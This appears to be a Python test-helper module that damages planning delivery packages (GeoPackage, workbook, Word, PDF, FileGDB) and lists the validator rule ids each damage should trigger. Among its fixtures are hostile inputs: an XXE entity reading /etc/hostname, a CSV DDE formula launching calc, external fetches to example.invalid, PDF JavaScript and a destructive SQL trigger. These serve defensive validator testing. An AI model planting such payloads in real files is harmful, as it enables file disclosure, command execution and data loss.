"""Kinds of damage to a package, and the ids of the rules that find each; a path in them is looked for, so that they fit any package of ours."""

from __future__ import annotations

import re
import sqlite3
import zipfile
from contextlib import closing
from pathlib import Path
from typing import Callable

import numpy as np
import openpyxl
import shapely
from osgeo import gdal, ogr

from village_planner.delivery import inspect_package
from village_planner.delivery.manifest import read_manifest, write_manifest
from village_planner.delivery.sheet_files import read_sheet_figures, stamp_jpg
from village_planner.spatial.blob import from_blob, register_functions, to_blob

Damage = Callable[[Path], None]


def rules_found(path: Path) -> set[str]:
    """Ids of all rules with a finding, of the package or of the plan in it."""
    inspection = inspect_package(path)
    return {*inspection.findings["rule"], *inspection.plan_result.findings["rule"]}


def file_of(package: Path, suffix: str) -> Path:
    """The only file of the package with this suffix."""
    return next(path for path in package.rglob(f"*{suffix}") if path.is_file())


class NothingToDamage(Exception):
    """The package does not have what this kind of damage is done to."""


def sql(*statements: str) -> Damage:
    """Damage by SQL to the GeoPackage. Raises NothingToDamage."""

    def damage(package: Path) -> None:
        with closing(sqlite3.connect(file_of(package, ".gpkg"))) as connection, connection:
            register_functions(connection)
            for statement in statements:
                if connection.execute(statement).rowcount == 0:
                    raise NothingToDamage(statement)

    return damage


def vector(edit: Callable[[ogr.DataSource], None]) -> Damage:
    """Damage through GDAL to the GeoPackage."""

    def damage(package: Path) -> None:
        source = gdal.OpenEx(str(file_of(package, ".gpkg")), gdal.OF_VECTOR | gdal.OF_UPDATE)
        edit(source)
        del source

    return damage


def as_text(layer: str, field: str) -> Callable[[ogr.DataSource], None]:
    """Make a field a text field of the same name."""

    def edit(source: ogr.DataSource) -> None:
        table = source.GetLayerByName(layer)
        definition = ogr.FieldDefn(field, ogr.OFTString)
        table.AlterFieldDefn(table.FindFieldIndex(field, 1), definition, ogr.ALTER_TYPE_FLAG)

    return edit


def move_layer_to(crs: str | None) -> Damage:
    """Write the layers again, CZBD in another CRS, None for the next zone, and lose the Chinese names of the fields as GDAL before 3.7 does."""

    def damage(package: Path) -> None:
        path = file_of(package, ".gpkg")
        copy = path.with_suffix(".copy.gpkg")
        path.rename(copy)
        with closing(sqlite3.connect(copy)) as connection:
            layers = [name for name, in connection.execute("SELECT table_name FROM gpkg_contents ORDER BY table_name")]
            own = connection.execute("SELECT srs_id FROM gpkg_geometry_columns WHERE table_name = 'CZBD'").fetchone()[0]
        for layer in layers:
            options = {"layers": [layer], "format": "GPKG", "accessMode": "update" if path.exists() else None, "layerName": layer}
            if layer == "CZBD":
                options["dstSRS"] = crs or f"EPSG:{own + 1}"
            gdal.VectorTranslate(str(path), str(copy), **options)
        copy.unlink()
        with closing(sqlite3.connect(path)) as connection, connection:
            if connection.execute("SELECT 1 FROM sqlite_master WHERE name = 'gpkg_data_columns'").fetchone():
                connection.execute("DELETE FROM gpkg_data_columns")

    return damage


def text(suffix: str, old: str, new: str) -> Damage:
    """Replace text in a file."""

    def damage(package: Path) -> None:
        path = file_of(package, suffix)
        before = path.read_text(encoding="utf-8")
        assert old in before
        path.write_text(before.replace(old, new), encoding="utf-8")

    return damage


def emptied(suffix: str, element: str) -> Damage:
    """Empty an element of an XML file."""

    def damage(package: Path) -> None:
        path = file_of(package, suffix)
        after, count = re.subn(f">[^<>]+</{element}>", f"></{element}>", path.read_text(encoding="utf-8"), count=1)
        assert count
        path.write_text(after, encoding="utf-8")

    return damage


def bytes_of(suffix: str, change: Callable[[bytes], bytes]) -> Damage:
    """Change the bytes of a file."""

    def damage(package: Path) -> None:
        path = file_of(package, suffix)
        path.write_bytes(change(path.read_bytes()))

    return damage


def resealed(package: Path) -> None:
    """Write the manifest again, so that only the damage itself is found."""
    manifest = read_manifest(package)
    assert manifest is not None
    write_manifest(package, manifest)


def cell(sheet: str, place: str, change: Callable[[object], object]) -> Damage:
    """Change a cell of the workbook."""

    def damage(package: Path) -> None:
        path = file_of(package, "规划表格.xlsx")
        book = openpyxl.load_workbook(path)
        book[sheet][place] = change(book[sheet][place].value)
        book.save(path)

    return damage


def part(suffix: str, name: str, change: Callable[[bytes], bytes]) -> Damage:
    """Change a part of a workbook or document; a part that is not there is made of no bytes."""

    def damage(package: Path) -> None:
        path = file_of(package, suffix)
        with zipfile.ZipFile(path) as archive:
            parts = {info.filename: archive.read(info) for info in archive.infolist()}
        before = parts.get(name, b"")
        parts[name] = change(before)
        assert parts[name] != before
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
            for member, content in parts.items():
                archive.writestr(member, content)

    return damage


def halved(content: bytes) -> bytes:
    """The first half."""
    return content[: len(content) // 2]


def both(*damages: Damage) -> Damage:
    """Several kinds of damage at once."""

    def damage(package: Path) -> None:
        for one in damages:
            one(package)

    return damage


def added(folder: str, name: str, content: bytes) -> Damage:
    """A file that nobody asked for."""

    def damage(package: Path) -> None:
        (package / folder).mkdir(parents=True, exist_ok=True)
        (package / folder / name).write_bytes(content)

    return damage


def in_format(suffix: str, layer: str, edit: Callable[[ogr.Layer], object]) -> Damage:
    """Damage through GDAL to one layer of the FileGDB (.gdb) or the shapefiles (SHP)."""

    def damage(package: Path) -> None:
        own = next(path for path in package.rglob(f"*{suffix}") if path.is_dir())
        source = gdal.OpenEx(str(own / f"{layer}.shp" if suffix == "SHP" else own), gdal.OF_VECTOR | gdal.OF_UPDATE)
        table = source.GetLayerByName(layer)
        edit(table)
        del table
        source.FlushCache()

    return damage


def first_value(field: str, value: object) -> Callable[[ogr.Layer], None]:
    """Change a value of the first row."""

    def edit(layer: ogr.Layer) -> None:
        feature = layer.GetNextFeature()
        feature.SetField(field, value)
        assert layer.SetFeature(feature) == 0

    return edit


def moved_1_m(layer: ogr.Layer) -> None:
    """Move the first polygon by one metre."""
    feature = layer.GetNextFeature()
    shape = shapely.from_wkb(bytes(feature.GetGeometryRef().ExportToWkb()))
    feature.SetGeometry(ogr.CreateGeometryFromWkb(shapely.to_wkb(shapely.transform(shape, lambda xy: xy + (1.0, 0.0)))))
    assert layer.SetFeature(feature) == 0


def renamed_field(old: str, new: str) -> Callable[[ogr.Layer], None]:
    """Give a field another name."""
    return lambda layer: layer.AlterFieldDefn(layer.FindFieldIndex(old, 1), ogr.FieldDefn(new, ogr.OFTString), ogr.ALTER_NAME_FLAG)


def shorter_tables(package: Path) -> None:
    """Cut all tables of the FileGDB to a third."""
    for path in package.rglob("*.gdbtable"):
        if path.stat().st_size > 200:
            path.write_bytes(path.read_bytes()[: path.stat().st_size // 3])


def other_figures(package: Path) -> None:
    """A map sheet that counts one village more."""
    path = file_of(package, ".jpg")
    facts = read_sheet_figures(path)
    next(iter(facts["figures"]["category"].values()))["villages"] += 1
    stamp_jpg(path, facts, 300)


def more_households(content: bytes) -> bytes:
    """Another number in the text where it tells the households that move."""
    return re.sub(rb'(w:name="vp_move_households"/><w:r>(?:<w:rPr>.*?</w:rPr>)?<w:t[^>]*>)\d+<', rb"\g<1>99999<", content)


def reshaped(layer: str, change: Callable[[shapely.Geometry, list[shapely.Geometry]], shapely.Geometry], where: str = "1") -> Damage:
    """Give the first row of a layer, of those `where` SQL says so, another shape, made of its own and those of the other rows."""

    def damage(package: Path) -> None:
        with closing(sqlite3.connect(file_of(package, ".gpkg"))) as connection, connection:
            register_functions(connection)
            (first,) = connection.execute(f"SELECT min(fid) FROM {layer} WHERE {where}").fetchone()
            crs = connection.execute("SELECT srs_id FROM gpkg_geometry_columns WHERE table_name = ?", (layer,)).fetchone()[0]
            shapes = dict(connection.execute(f"SELECT fid, geom FROM {layer} WHERE geom IS NOT NULL").fetchall())
            if first not in shapes:
                raise NothingToDamage(where)
            own, *others = from_blob([shapes.pop(first), *shapes.values()])
            connection.execute(f"UPDATE {layer} SET geom = ? WHERE fid = ?", (*to_blob([change(own, others)], crs), first))

    return damage


def without_sheet(package: Path) -> None:
    """Take a sheet out of the workbook."""
    path = file_of(package, "规划表格.xlsx")
    book = openpyxl.load_workbook(path)
    del book["B3村庄分类汇总表"]
    book.save(path)


def far_away(own: shapely.Geometry, _: list[shapely.Geometry]) -> shapely.Geometry:
    """A shape 200 km to the east of its own place."""
    return shapely.transform(own, lambda xy: xy + (200_000.0, 0.0))


def crossed(own: shapely.Geometry, _: list[shapely.Geometry]) -> shapely.Geometry:
    """A polygon that crosses itself."""
    corners = list(shapely.envelope(own).exterior.coords)
    return shapely.multipolygons([shapely.Polygon([corners[0], corners[2], corners[1], corners[3]])])


def with_neighbour(own: shapely.Geometry, others: list[shapely.Geometry]) -> shapely.Geometry:
    """A polygon that has its nearest neighbour's ground as well."""
    near = min(others, key=own.distance)
    both = shapely.union(own, near)
    return shapely.multipolygons([both if both.geom_type == "Polygon" else shapely.convex_hull(both)])


def arc(package: Path) -> None:
    """A site whose first corner is rounded by an arc of 10 m."""

    def edit(source: ogr.DataSource) -> None:
        layer = source.GetLayerByName("AZD")
        feature = layer.GetNextFeature()
        outline = shapely.from_wkb(bytes(feature.GetGeometryRef().ExportToWkb())).geoms[0].exterior.coords[:-1]
        corner, after, before = (np.array(outline[number]) for number in (0, 1, -1))
        start, end = (corner + 10.0 * (to - corner) / np.hypot(*(to - corner)) for to in (before, after))
        middle = corner + (start + end - 2 * corner) * (1 - np.sqrt(0.5))
        line, curve = (", ".join(f"{float(x)!r} {float(y)!r}" for x, y in points) for points in ([end, *outline[1:], start], [start, middle, end]))
        feature.SetGeometry(ogr.CreateGeometryFromWkt(f"MULTISURFACE(CURVEPOLYGON(COMPOUNDCURVE(({line}), CIRCULARSTRING({curve}))))"))
        assert layer.SetFeature(feature) == 0

    vector(edit)(package)


OF_HAMLET = "fid = (SELECT fid FROM CZQBGX WHERE QRLX = '1' ORDER BY JXMJ IS NOT NULL, fid LIMIT 1)"
"""A move to a hamlet that builds nothing there, if there is one; like those that follow it is looked for, so that it is found in any package of ours."""
OF_CASH = "fid = (SELECT min(fid) FROM CZQBGX WHERE QRLX = '5')"
TAKES_IN = "JMDDM IN (SELECT QRXZQDM FROM CZQBGX WHERE QRLX = '1')"
WITHDRAWN = "JMDDM = (SELECT min(QCJMDDM) FROM CZQBGX)"
ALONE = (
    "JMDDM = (SELECT max(JMDDM) FROM JMD WHERE JMDDM NOT IN (SELECT QCJMDDM FROM CZQBGX) AND JMDDM NOT IN (SELECT QRXZQDM FROM CZQBGX WHERE QRLX = '1') "
    "AND XZQDM NOT IN (SELECT XZQDM FROM CMBJ))"
)
"""A hamlet that no move and no vote tells of."""
ONLY_VOTE = "fid = (SELECT max(fid) FROM CMBJ GROUP BY XZQDM HAVING count(*) = 1)"
"""The vote of a village that has no other."""
CLASSIFIED = "fid = (SELECT max(fid) FROM CZBD WHERE CZFLDM IS NOT NULL AND XZQDM NOT IN (SELECT QCXZQDM FROM CZQBGX))"
"""A village with a category, of which nobody moves."""

DAMAGES: list[tuple[str, Damage, set[str]]] = [
    ("metadata missing", lambda package: file_of(package, ".xml").unlink(), {"QC-1101"}),
    ("workbook under another name", lambda package: file_of(package, "规划表格.xlsx").rename(package / "3规划表格" / "表格.xlsx") and None, {"QC-1101"}),
    ("GeoPackage missing", lambda package: file_of(package, ".gpkg").unlink(), {"QC-1101", "QC-1201"}),
    ("a folder that the tree does not have", lambda package: (package / "7杂项").mkdir(), {"QC-1101"}),
    ("GeoPackage cut short", bytes_of(".gpkg", lambda content: content[: len(content) // 2]), {"QC-1103"}),
    ("GeoPackage full of rubbish", bytes_of(".gpkg", lambda content: b"rubbish" * 500), {"QC-1103"}),
    ("workbook full of rubbish", bytes_of("规划表格.xlsx", lambda content: b"rubbish"), {"QC-1103"}),
    ("workbook cut short", bytes_of("规划表格.xlsx", lambda content: content[:-200]), {"QC-1103"}),
    ("record that is no UTF-8", bytes_of(".csv", lambda content: "序号".encode("gbk")), {"QC-1103"}),
    ("sheet missing", without_sheet, {"QC-1201"}),
    ("metadata not well-formed", text(".xml", "</元数据>", ""), {"QC-1102"}),
    ("mandatory metadata empty", emptied(".xml", "标题"), {"QC-1102"}),
    ("metadata with an entity", text(".xml", "<元数据>", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><元数据>'), {"PK-02"}),
    ("layer missing", vector(lambda source: source.ExecuteSQL("DROP TABLE JMDYD")), {"QC-1201", "PK-01"}),
    ("layer that the profile does not have", vector(lambda source: source.CreateLayer("EXTRA", None, ogr.wkbNone)), {"QC-3101"}),
    ("field missing", vector(lambda source: source.GetLayerByName("JMD").DeleteField(source.GetLayerByName("JMD").FindFieldIndex("BHSM", 1))), {"QC-3101"}),
    ("field that the profile does not have", vector(lambda source: source.GetLayerByName("AZD").CreateField(ogr.FieldDefn("XX", ogr.OFTReal))), {"QC-3101"}),
    ("field of another type", vector(as_text("CMBJ", "BJRQ")), {"QC-3101"}),
    ("number where the column says text", sql("UPDATE CZBD SET BZ = x'3132' WHERE fid = 1"), set()),
    ("text wider than its field", sql("UPDATE CZBD SET FLYJ = printf('%.*c', 300, 'x') WHERE fid = 1"), {"QC-3101"}),
    ("code outside its domain", sql("UPDATE CZBD SET CZXZ = '99' WHERE fid = 1"), {"QC-3104"}),
    ("mandatory value missing", sql("UPDATE CZBD SET SSXZMC = NULL WHERE fid = 1"), {"QC-3106"}),
    ("conditional value missing", sql("UPDATE CZQBGX SET QRXZQDM = NULL WHERE " + OF_HAMLET), {"QC-3106", "QC-7103", "QC-6101"}),
    ("serial twice", sql("UPDATE JMD SET BSM = (SELECT BSM FROM JMD WHERE fid = 2) WHERE fid = 1"), {"QC-3302"}),
    ("serial too short", sql("UPDATE JMD SET BSM = '37079990' WHERE fid = 1"), {"QC-3302"}),
    ("serial of another county", sql("UPDATE JMD SET BSM = '370800' || substr(BSM, 7) WHERE fid = 1"), {"QC-3302"}),
    ("polygon that crosses itself", reshaped("CZBD", crossed), {"QC-4105"}),
    ("area that is not that of its polygon", sql("UPDATE JMDYD SET YDMJ = YDMJ + 2 WHERE fid = 1"), {"QC-3401"}),
    ("area that differs by the rounding of another program", sql("UPDATE JMDYD SET YDMJ = YDMJ + 0.9 WHERE fid = 1"), set()),
    ("arc in an outline", arc, {"QC-4106", "QC-4701", "QC-3401", "QC-3403", "QC-6101"}),
    ("village over its neighbour", reshaped("CZBD", with_neighbour, "CZFLDM IS NOT NULL"), {"QC-4101", "QC-6101"}),
    ("hamlet of an unknown village", sql("UPDATE JMD SET XZQDM = substr(XZQDM, 1, 6) || '109999' WHERE " + ALONE), {"QC-3301"}),
    ("layer in WGS 84", move_layer_to("EPSG:4326"), {"QC-3101", "QC-2201", "QC-2204"}),
    ("layer in degrees", move_layer_to("EPSG:4490"), {"QC-3101", "QC-2203", "QC-2204"}),
    ("layer in the next zone", move_layer_to(None), {"QC-3101", "QC-2204"}),
    ("difference not settled", sql("UPDATE MLHD SET CLJG = NULL"), {"QC-7101"}),
    ("village without a category", sql("UPDATE CZBD SET CZFLDM = NULL, CZFLMC = NULL, FLYJ = NULL WHERE " + CLASSIFIED), {"QC-7102", "QC-6101"}),
    ("phase that the plan does not have", sql("UPDATE CZQBGX SET QBSX = 2030 WHERE " + OF_HAMLET), {"QC-7103", "QC-6101"}),
    ("destination that does not exist", sql("UPDATE CZQBGX SET QRXZQDM = substr(QRXZQDM, 1, 12) || '999' WHERE " + OF_HAMLET), {"QC-6101", "QC-7104"}),
    ("consent missing", sql("DELETE FROM CMBJ WHERE " + ONLY_VOTE), {"QC-7105", "PK-01", "QC-6101"}),
    ("protected hamlet withdrawn", sql("UPDATE JMD SET BHLX = '2' WHERE " + WITHDRAWN), {"QC-7106"}),
    ("households that do not add up", sql("UPDATE CZQBGX SET QBHS = QBHS + 1 WHERE " + OF_CASH), {"QC-7108", "QC-6101"}),
    ("field renamed", vector(lambda source: renamed_field("CZMC", "CUNMING")(source.GetLayerByName("CZBD"))), {"QC-3101"}),
    ("serial twice in two layers", sql("UPDATE JMD SET BSM = (SELECT BSM FROM CZBD WHERE fid = 1) WHERE fid = 1"), {"QC-3302"}),
    ("feature code of another layer", sql("UPDATE JMD SET YSDM = '2090029010' WHERE fid = 1"), {"QC-3303"}),
    ("name of a category that is not its code's", sql("UPDATE CZBD SET CZFLMC = '城郊融合类' WHERE " + CLASSIFIED), {"QC-3303"}),
    ("name of a village that is not its code's", sql("UPDATE JMD SET XZQMC = '别的村' WHERE fid = 1"), {"QC-3301"}),
    ("name of a hamlet that is not its code's", sql("UPDATE CZQBGX SET QCJMDMC = '别的庄' WHERE fid = 1"), {"QC-3303"}),
    ("share above a hundred percent", sql("UPDATE CZBD SET CMYJTYL = 120 WHERE fid = 3"), {"QC-3105"}),
    ("patch number twice", sql("UPDATE JMDYD SET YDBH = (SELECT YDBH FROM JMDYD WHERE fid = 2) WHERE fid = 1"), {"QC-3304"}),
    ("village code of a patch that lost a digit", sql("UPDATE JMDYD SET XZQDM = substr(XZQDM, 1, 11) WHERE fid = 1"), {"QC-3305", "QC-3301"}),
    ("built land of a village that its patches do not give", sql("UPDATE CZBD SET XZCZJSYDMJ = XZCZJSYDMJ + 500 WHERE fid = 1"), {"QC-3403"}),
    ("planned land of a hamlet that its patches do not give", sql("UPDATE JMD SET GHYDMJ = GHYDMJ + 500 WHERE fid = 1"), {"QC-3403"}),
    ("length of a move that its line has not", sql("UPDATE CZQBGX SET JL = JL + 100 WHERE fid = 1"), {"QC-6101"}),
    ("capacity that the phases do not give", sql("UPDATE AZD SET AZRL = AZRL + 1 WHERE fid = 1"), {"QC-6101"}),
    ("hamlet far beyond the township", reshaped("JMD", far_away, TAKES_IN), {"QC-2204", "QC-7104"}),
    ("area in a cell changed by 0.02 ha", cell("B5分期任务汇总表", "H8", lambda value: round(float(value) + 0.02, 4)), {"QC-6101"}),
    ("formula in a cell", cell("B5分期任务汇总表", "AZ1", lambda _: "=1+1"), {"PK-02"}),
    ("formula that fetches", cell("B5分期任务汇总表", "AZ1", lambda _: '=WEBSERVICE("http://example.invalid/")'), {"PK-02"}),
    ("macros in the workbook", part("规划表格.xlsx", "xl/vbaProject.bin", lambda _: b"macro"), {"PK-02"}),
    ("entity in a sheet", part("规划表格.xlsx", "xl/worksheets/sheet1.xml", lambda xml: xml.replace(b"<worksheet", b"<!DOCTYPE x><worksheet", 1)), {"PK-02"}),
    ("sheet that is no XML", part("规划表格.xlsx", "xl/worksheets/sheet5.xml", halved), {"QC-1103"}),
    ("macros beside a sheet that is no XML", both(
        part("规划表格.xlsx", "xl/vbaProject.bin", lambda _: b"macro"), part("规划表格.xlsx", "xl/worksheets/sheet1.xml", halved)
    ), {"PK-02", "QC-1103"}),
    ("formula in the record", bytes_of(".csv", lambda content: content + b"=cmd|' /C calc'!A0,,\r\n"), {"PK-02"}),
    ("trigger in the GeoPackage", sql("CREATE TRIGGER planted AFTER UPDATE ON CZBD BEGIN DELETE FROM JMD; END"), {"PK-02"}),
    ("program among the other material", added("6其他材料", "查看.exe", b"MZ"), {"PK-02", "QC-1101"}),
    ("path of more than 200 characters", added(f"5数据说明/{'长' * 70}/{'附' * 70}/{'件' * 60}", "a.txt", b"x"), {"QC-1101"}),
    ("attachment lacking", text("manifest.json", '"lacking": []', '"lacking": [{"title": "决议", "file": "决议.pdf", "reason": "x"}]'), {"PK-04"}),
    ("metadata of another coordinate system", text(".xml", "<EPSG代码>", "<EPSG代码>1"), {"QC-1102"}),
]
"""To GeoPackage, workbook, metadata, record and tree."""

IN_ALL_FORMATS: list[tuple[str, Damage, set[str]]] = [
    ("text missing", lambda package: file_of(package, "规划文本.docx").unlink(), {"QC-1101"}),
    ("text that is no XML", part("规划文本.docx", "word/document.xml", halved), {"QC-1103"}),
    ("text cut short", bytes_of("规划文本.docx", lambda content: content[:-100]), {"QC-1103"}),
    ("number changed in the explanation", part("说明书.docx", "word/document.xml", more_households), {"NL-11"}),
    ("template of the text elsewhere", part("规划文本.docx", "word/_rels/settings.xml.rels", lambda _: (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" TargetMode="External" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://example.invalid/a.dotm"/></Relationships>'
    )), {"PK-02"}),
    ("another name in the table of unit codes", part("单位代码表.xlsx", "xl/worksheets/sheet1.xml", lambda xml: xml.replace(
        *(name.encode("ascii", "xmlcharrefreplace") for name in ("李家屯村", "李家村"))
    )), {"QC-3301"}),
    ("figure changed on a map sheet", other_figures, {"NL-12"}),
    ("picture of a map sheet cut short", bytes_of(".jpg", lambda content: content[:-40]), {"QC-1103"}),
    ("script in the PDF of a map sheet", bytes_of(".pdf", lambda content: content.replace(b"%%EOF", b"<< /S /JavaScript >>\n%%EOF")), {"PK-02"}),
    ("FileGDB cut short", shorter_tables, {"QC-1103"}),
    ("polygon of the FileGDB moved by 1 m", in_format(".gdb", "CZBD", moved_1_m), {"PK-05"}),
    ("value changed in the FileGDB", in_format(".gdb", "CZBD", first_value("HJRK", 7)), {"PK-05"}),
    ("field of the FileGDB renamed", in_format(".gdb", "CZBD", renamed_field("FLYJ", "YIJU")), {"QC-3101"}),
    ("row missing in the shapefiles", in_format("SHP", "CZBD", lambda layer: layer.DeleteFeature(0)), {"PK-05"}),
    ("table of a shapefile missing", lambda package: file_of(package, "CZBD.dbf").unlink(), {"QC-3101"}),
    ("VCT cut short", bytes_of(".vct", lambda content: content[: len(content) // 2]), {"QC-1103"}),
    ("value changed in the VCT", bytes_of(".vct", lambda content: content.replace("东河安置点,1".encode("gb18030"), "东河点,1".encode("gb18030"))), {"PK-05"}),
]
"""To documents, map sheets, FileGDB, shapefiles and VCT."""
